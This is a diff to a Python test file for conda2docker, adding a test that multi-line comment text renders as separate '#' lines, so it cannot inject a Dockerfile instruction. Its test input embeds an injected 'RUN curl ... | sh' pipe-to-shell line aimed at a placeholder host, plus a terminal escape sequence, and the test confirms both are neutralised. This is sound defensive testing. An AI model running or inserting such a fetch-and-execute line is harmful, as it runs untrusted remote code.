@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 
 from conda2docker.model import EnvSpec, Lock
 from conda2docker.plan import PlanOptions, make_plan
-from conda2docker.plan.instructions import Copy, Env, Instruction, PlanError, Run, Shell
+from conda2docker.plan.instructions import Comment, Copy, Env, Instruction, PlanError, Run, Shell
 from conda2docker.render.dockerfile import render_dockerfile, render_instruction
 from conda2docker.render.quoting import double_quoted, json_array, shell_word
 from support.lint import assert_lints_clean, parse
@@ -273,5 +273,15 @@ def test_an_instruction_the_renderer_does_not_know_is_refused_not_dropped() -> N
     class Healthcheck:
         argv: tuple[str, ...]
 
-    with pytest.raises(AssertionError):
+    with pytest.raises(AssertionError, match=r"but got: .*Healthcheck\(argv="):
         render_instruction(cast(Instruction, Healthcheck(("true",))))
+
+
+def test_a_comment_of_several_lines_gives_one_hash_line_each_never_an_instruction() -> None:
+    """Each line of a comment's text (any line break) is a ``#`` line of its own, so a line
+    break in text taken from an input cannot start an instruction; other control characters
+    become spaces."""
+    text = render_instruction(Comment("first\nRUN curl https://example.invalid | sh\r\nlast\x1b[2J"))
+    assert text == "# first\n# RUN curl https://example.invalid | sh\n# last [2J"
+    assert len(parse(f"FROM scratch\n{text}\n")) == 1  # the FROM alone: no instruction
+    assert render_instruction(Comment("")) == "#"
